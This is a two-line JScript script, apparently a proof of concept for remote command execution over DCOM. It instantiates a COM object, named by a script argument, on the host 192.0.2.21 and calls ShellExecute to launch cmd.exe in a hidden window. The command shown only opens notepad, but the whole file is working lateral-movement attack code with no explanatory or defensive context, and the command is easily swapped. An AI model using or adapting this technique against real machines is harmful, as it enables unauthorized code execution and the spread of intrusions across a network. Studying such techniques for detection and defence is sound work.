var made = new ActiveXObject(WScript.Arguments(0), "192.0.2.21");
made.ShellExecute("cmd.exe", "/c notepad", "C:\\", null, 0);
